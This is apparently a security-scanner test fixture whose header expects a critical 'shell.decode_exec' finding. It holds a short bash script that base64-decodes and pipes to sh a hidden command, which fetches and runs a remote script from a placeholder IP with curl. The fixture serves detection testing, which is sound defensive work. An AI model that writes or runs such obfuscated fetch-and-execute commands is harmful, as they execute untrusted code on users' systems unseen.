# expect: shell.decode_exec critical
# path: scripts/g.sh
#!/bin/bash
base64 -d <<< "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo" | sh
